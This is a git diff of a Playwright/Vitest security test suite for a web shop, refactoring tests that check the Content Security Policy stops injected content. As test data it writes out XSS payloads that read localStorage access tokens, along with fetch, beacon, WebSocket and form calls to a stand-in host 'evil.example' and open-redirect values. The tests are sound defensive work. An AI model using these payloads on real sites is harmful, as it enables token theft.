@@ -1,4 +1,5 @@
 import { join } from 'node:path'
+import type { Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { HOSTILE_TEXTS } from '../src/security/hostile.ts'
 import { linkIn, mailTo } from './mail.ts'
@@ -29,70 +30,30 @@ describe('a hole in a page, torn open on purpose,', () => {
     'a style element': '<style>body { background: url(https://evil.example/?css) }</style>',
   }
 
-  test.each(['/', '/products', '/login', '/dashboard/profile', 'pay'])(
-    'at %s gives nobody’s token away',
-    async (path) => {
-      const [product, buyer] = await Promise.all([aProduct(), aBuyer({ provokes: BLOCKED })])
-      const { page, context, origin } = buyer
-      const { _id } = await anOrder(buyer, product)
-      const left: string[] = []
-      await context.route(/evil\.example/, (route) => {
-        left.push(route.request().url())
-        return route.abort()
-      })
-      await visit(page, path === 'pay' ? `/dashboard/payment/${_id}` : path)
+  test('of whatever kind, gives nobody’s token away', async () => {
+    const [product, buyer] = await Promise.all([aProduct(), aBuyer({ provokes: BLOCKED })])
+    const { page, context, origin } = buyer
+    const { _id } = await anOrder(buyer, product)
+    const left: string[] = []
+    await context.route(/evil\.example/, (route) => {
+      left.push(route.request().url())
+      return route.abort()
+    })
+    for (const path of ['/', '/login', '/dashboard/profile', `/dashboard/payment/${_id}`]) {
+      await visit(page, path)
       await expect.poll(() => page.evaluate(() => localStorage.getItem('accessToken'))).toBeTruthy()
-      await page.evaluate(() => {
-        window.violations = []
-        addEventListener('securitypolicyviolation', ({ violatedDirective }) =>
-          window.violations?.push(violatedDirective),
-        )
-      })
-      await page.evaluate((sinks) => {
-        for (const html of sinks) document.body.insertAdjacentHTML('beforeend', html)
-        const inline = document.createElement('script')
-        inline.textContent = 'pwned = localStorage.accessToken'
-        const foreign = document.createElement('script')
-        foreign.src = 'https://evil.example/x.js'
-        const blob = document.createElement('script')
-        blob.src = URL.createObjectURL(new Blob(['pwned = localStorage.accessToken'], { type: 'text/javascript' }))
-        const dataScript = document.createElement('script')
-        dataScript.src = 'data:text/javascript,pwned=localStorage.accessToken'
-        document.head.append(inline, foreign, blob, dataScript)
-        const link = document.createElement('a')
-        link.href = 'javascript:pwned=localStorage.accessToken'
-        document.body.append(link)
-        link.click()
-        const form = document.createElement('form')
-        form.action = 'https://evil.example/'
-        form.target = '_self'
-        document.body.append(form)
-        form.submit()
-      }, Object.values(SINKS))
-      // Code from a string must run in the page's own world, where the policy applies.
-      await page.evaluate(() => {
-        const button = document.createElement('button')
-        document.body.append(button)
-        button.setAttribute('onclick', 'pwned = localStorage.accessToken')
-        button.click()
-        void fetch('https://evil.example/?fetch').catch(() => undefined)
-        navigator.sendBeacon('https://evil.example/?beacon')
-        try {
-          new WebSocket('wss://evil.example/')
-        } catch {
-          // Refused at once in some browsers.
-        }
-      })
+      await tearOpen(page, Object.values(SINKS))
+      await runStrings(page)
       const seen = () => page.evaluate(() => window.violations ?? [])
       await expect.poll(async () => (await seen()).length).toBeGreaterThan(8)
       const violated = new Set((await seen()).map((name) => name.replace(/-(elem|attr)$/, '')))
       for (const directive of ['script-src', 'object-src', 'base-uri', 'style-src', 'connect-src', 'form-action'])
         expect([...violated], path).toContain(directive)
-      expect(await page.evaluate(() => window.pwned)).toBeUndefined()
-      expect(left).toEqual([])
+      expect(await page.evaluate(() => window.pwned), path).toBeUndefined()
+      expect([path, left]).toEqual([path, []])
       expect(new URL(page.url()).origin).toBe(origin)
-    },
-  )
+    }
+  })
 
   test('would give it away, were it not for the policy', async () => {
     const { page } = await aBuyer({ bypassCSP: true })
@@ -154,23 +115,6 @@ describe('texts that want to be more', () => {
     }
   })
 
-  test('are text on every screen after hydration', async () => {
-    const visitor = await aPerson({ baseURL: shop.origin })
-    for (const { _id, name } of products) {
-      await visit(visitor.page, `/login?from=${encodeURIComponent(`/purcess/${_id}`)}`)
-      await expectHarmless(visitor.page, name)
-    }
-    for (const path of [
-      '/',
-      '/products?sort=newest',
-      '/products?page=2',
-      `/products?q=${encodeURIComponent('<script>')}`,
-    ]) {
-      await visit(visitor.page, path)
-      await expectHarmless(visitor.page, path)
-    }
-  })
-
   test('are text in the dashboards of who wrote them and who reads them', async () => {
     const screens: [Entered, string[]][] = [
       [
@@ -179,7 +123,7 @@ describe('texts that want to be more', () => {
           '/dashboard/myorders',
           '/dashboard/profile',
           '/dashboard/review',
-          ...products.slice(0, 3).map(({ _id }) => `/purcess/${_id}`),
+          ...products.slice(0, 2).map(({ _id }) => `/purcess/${_id}`),
         ],
       ],
       [
@@ -204,18 +148,20 @@ describe('texts that want to be more', () => {
     }
   })
 
-  test('in an address of the shop itself are text too', async () => {
+  test('are text on every screen after hydration, and in an address of the shop itself', async () => {
     const { page } = await aPerson({ baseURL: shop.origin })
-    for (const text of HOSTILE_TEXTS.filter((_, index) => index % 3 === 0)) {
-      const typed = encodeURIComponent(text)
-      for (const path of [
-        `/login?from=${typed}&error=${typed}`,
-        `/products?q=${typed}`,
-        `/reset-password?token=${typed}&error=${typed}`,
-      ]) {
-        await visit(page, path)
-        await expectHarmless(page, path)
-      }
+    const some = (_: unknown, index: number) => index % 3 === 0
+    const typed = HOSTILE_TEXTS.filter(some).map(encodeURIComponent)
+    for (const path of [
+      '/',
+      '/products?sort=newest',
+      '/products?page=2',
+      ...products.filter(some).map(({ _id }) => `/purcess/${_id}`),
+      ...typed.flatMap((text) => [`/login?from=${text}&error=${text}`, `/products?q=${text}`]),
+      `/reset-password?token=${typed[1]}&error=${typed[1]}`,
+    ]) {
+      await visit(page, path)
+      await expectHarmless(page, path)
     }
     for (const from of ['javascript:window.pwned=1', '//evil.example', '/\\evil.example', 'https://evil.example']) {
       await visit(page, `/login?from=${encodeURIComponent(from)}`)
@@ -230,6 +176,48 @@ describe('texts that want to be more', () => {
     return ((await (await fetch(`${shop.origin}/api/products?limit=1`)).json()) as [{ slug: string }])[0]
   }
 })
+
+/** Injects these texts, scripts, a link and a form into the page, which records what its policy forbids. */
+const tearOpen = (page: Page, sinks: string[]) =>
+  page.evaluate((sinks) => {
+    window.violations = []
+    addEventListener('securitypolicyviolation', ({ violatedDirective }) => window.violations?.push(violatedDirective))
+    for (const html of sinks) document.body.insertAdjacentHTML('beforeend', html)
+    const inline = document.createElement('script')
+    inline.textContent = 'pwned = localStorage.accessToken'
+    const foreign = document.createElement('script')
+    foreign.src = 'https://evil.example/x.js'
+    const blob = document.createElement('script')
+    blob.src = URL.createObjectURL(new Blob(['pwned = localStorage.accessToken'], { type: 'text/javascript' }))
+    const dataScript = document.createElement('script')
+    dataScript.src = 'data:text/javascript,pwned=localStorage.accessToken'
+    document.head.append(inline, foreign, blob, dataScript)
+    const link = document.createElement('a')
+    link.href = 'javascript:pwned=localStorage.accessToken'
+    document.body.append(link)
+    link.click()
+    const form = document.createElement('form')
+    form.action = 'https://evil.example/'
+    form.target = '_self'
+    document.body.append(form)
+    form.submit()
+  }, sinks)
+
+/** Code from a string must run in the page's own world, where the policy applies. */
+const runStrings = (page: Page) =>
+  page.evaluate(() => {
+    const button = document.createElement('button')
+    document.body.append(button)
+    button.setAttribute('onclick', 'pwned = localStorage.accessToken')
+    button.click()
+    void fetch('https://evil.example/?fetch').catch(() => undefined)
+    navigator.sendBeacon('https://evil.example/?beacon')
+    try {
+      new WebSocket('wss://evil.example/')
+    } catch {
+      // Refused at once in some browsers.
+    }
+  })
 
 type Entered = Awaited<ReturnType<typeof enter>>
 
@@ -267,7 +255,7 @@ async function enter(
 }
 
 /** Checks that no script ran and that no text became an element. */
-async function expectHarmless(page: Awaited<ReturnType<typeof aPerson>>['page'], about: string) {
+async function expectHarmless(page: Page, about: string) {
   const found = await page.evaluate(() => ({
     pwned: window.pwned,
     injected: document.querySelectorAll(
